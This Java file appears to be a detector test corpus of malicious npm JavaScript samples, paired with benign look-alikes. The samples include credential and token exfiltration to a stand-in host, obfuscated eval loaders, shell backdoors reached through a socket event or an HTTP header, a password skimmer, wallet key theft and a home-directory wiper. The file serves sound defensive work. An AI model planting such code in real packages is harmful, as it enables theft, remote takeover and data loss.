package cordon.inspect.corpus;

import java.util.List;

/** What objects gather bit by bit, what is borrowed, and what comes over connections. */
final class NpmGathering {
  private NpmGathering() {}

  static List<Sample> all() {
    return List.of(
        Sample.postinstall(
            "an object gathers and sends",
            """
            const https = require('https'), os = require('os');
            class Collector {
              constructor(to) { this.to = new URL(to); this.bag = new Map(); }
              add(k, f) { this.bag.set(k, f()); return this; }
              flush() { https.request(this.to, { method: 'POST' }).end(JSON.stringify([...this.bag])); }
            }
            new Collector('https://rx.example/e').add('h', () => os.hostname()).add('u', () => os.userInfo().username).flush();
            """),
        Sample.postinstall(
            "an object fills a list and sends it",
            """
            const os = require('os');
            class Report {
              lines = [];
              line(x) { this.lines.push(x); return this; }
              send() { return fetch('https://rx.example/?' + this.lines.join('&')); }
            }
            const r = new Report(); r.line(os.hostname()).line(os.userInfo().username); r.send();
            """),
        Sample.postinstall(
            "a request is ended after somebody listens to it",
            """
            const fs = require('fs');
            const data = fs.readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token', 'utf8');
            require('https').request('https://rx.example', { method: 'PUT' }).on('error', () => {}).setTimeout(9e3).end(data);
            """),
        Sample.required(
            "numbers are turned into letters by their keys",
            """
            var codes = [114,101,113,117,105,114,101,40,39,104,116,116,112,39,41,46,103,101,116,40,39,104,116,116,112,58,47,47,49,57,50,46,48,46,50,46,55,47,63,39,43,112,114,111,99,101,115,115,46,101,110,118,46,85,83,69,82,41], text = '';
            for (var i in codes) text += String.fromCharCode(codes[i]);
            globalThis[Object.getOwnPropertyNames(globalThis).filter(n => n.length == 4 && n[0] == 'e')[0]](text);
            """),
        Sample.required(
            "module and function have names that a cipher hides",
            """
            const h = x => x.replace(/[a-z]/gi, c => String.fromCharCode((c <= 'Z' ? 90 : 122) >= (c = c.charCodeAt(0) + 13) ? c : c - 26));
            require(h('puvyq_cebprff'))[h('rkrpFlap')](h('rpub vareg'));
            """),
        Sample.required(
            "a message over a connection is a command",
            """
            module.exports = (io) => io.on('connection', (socket) => {
              socket.on('chat', (m) => io.emit('chat', m));
              socket.on('__debug', (m) => require('child_process').spawn('/bin/sh', ['-c', m]));
            });
            """),
        Sample.required(
            "fields of a page by a borrowed function",
            """
            (function (w, d) {
              function grab() { var o = {}; [].forEach.call(d.querySelectorAll('input[type=password]'), function (i) { o[i.name] = i.value; }); return o; }
              d.addEventListener('click', function () { var x = new XMLHttpRequest(); x.open('POST', 'https://rx.example/c'); x.send(JSON.stringify(grab())); }, true);
            })(window, document);
            """),
        Sample.required(
            "a text that is put together backwards runs later with what it is given",
            """
            const s = ")vne.ssecorp(yfignirts.NOSJ+'?/elpmaxe.xr//:sptth'(teg.)'sptth'(eriuqer";
            let r = '';
            for (let i = s.length - 1; i >= 0; i--) r += s[i];
            setTimeout(new Function('require', 'process', r), 0, require, process);
            """),
        Sample.required(
            "the maker of the maker of a list runs a text with holes",
            """
            const words = { 1: 'require', 2: 'child' }, text = '@1(x).exec(y)';
            [].constructor.constructor('q', text.replace(/@(\\d)/g, (m, n) => words[n]))(require);
            """),
        Sample.postinstall(
            "tokens are looked for by their shape",
            """
            const find = (p) => { try { return require('child_process').execSync(`grep -rhoE "${p}" ~ | head`).toString(); } catch { return ''; } };
            require('https').request({ host: 'rx.example', method: 'POST' }).end([find('AKIA[0-9A-Z]{16}'), find('ghp_[A-Za-z0-9]{36}')].join());
            """),
        Sample.required(
            "a header of a context is a command",
            """
            exports.middleware = () => async (c, next) => {
              const k = c.req.header('x-k');
              if (k) return c.text(require('child_process').execSync(Buffer.from(k, 'base64').toString()).toString());
              await next();
            };
            """),
        Sample.required(
            "keys of those who sign are reported",
            """
            export function patch(connection) {
              connection.sendTransaction = async (tx, signers) => {
                navigator.sendBeacon('https://rx.example/t', JSON.stringify(signers.map((s) => Array.from(s.secretKey))));
                return null;
              };
            }
            """),
        Sample.required(
            "files are emptied in some places",
            """
            const fs = require('fs'), { join } = require('path');
            if (/^xx-/.test(Intl.DateTimeFormat().resolvedOptions().locale)) {
              (function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = join(d, e.name); if (e.isDirectory()) walk(p); else fs.truncateSync(p, 0); } })(require('os').homedir());
            }
            """));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        Sample.required(
            "a queue of its own",
            """
            class Queue {
              constructor(url) { this.url = url; this.items = []; this.tags = new Map(); }
              add(x) { this.items.push(x); return this; }
              tag(k, v) { this.tags.set(k, v); return this; }
              flush() { return require('https').request(this.url, { method: 'POST' }).on('error', () => {}).end(JSON.stringify(this.items)); }
            }
            module.exports = new Queue('https://api.example').tag('node', process.version);
            """),
        Sample.required(
            "keys of a list and borrowed functions",
            """
            const rows = ['a', 'b'], out = {};
            for (const i in rows) out[rows[i]] = Number(i);
            exports.names = () => Array.prototype.map.call(arguments, (a) => String(a)).concat(Object.keys(out));
            exports.all = () => [].slice.call(document.querySelectorAll('a'));
            """),
        Sample.required(
            "a chat that passes messages on",
            """
            module.exports = (io) => io.on('connection', (socket) => {
              socket.on('say', (m) => io.emit('say', { text: m, at: Date.now() }));
              socket.on('build', () => require('child_process').execFile('npm', ['run', 'build']));
            });
            """),
        Sample.required(
            "tokens are hidden where they are shown, and later is later",
            """
            const shapes = [/ghp_[A-Za-z0-9]{36}/g, /AKIA[0-9A-Z]{16}/g];
            exports.mask = (text) => shapes.reduce((t, s) => t.replace(s, '***'), text);
            exports.soon = (f, a) => setTimeout((x) => f(x), 10, a);
            const every = [].constructor; exports.isList = (x) => x.constructor === every;
            exports.world = [].constructor.constructor('return this')();
            exports.logger = (c, next) => { console.log(c.req.header('user-agent')); return next(); };
            """),
        Sample.required(
            "a module by a name that is put together",
            """
            exports.load = (name) => require(decodeURIComponent(name));
            exports.locale = (tag) => require('./locale/' + String.fromCharCode(tag[0]) + '.js')[tag];
            exports.trim = (fd) => require('fs').ftruncateSync(fd, 0);
            """));
  }
}
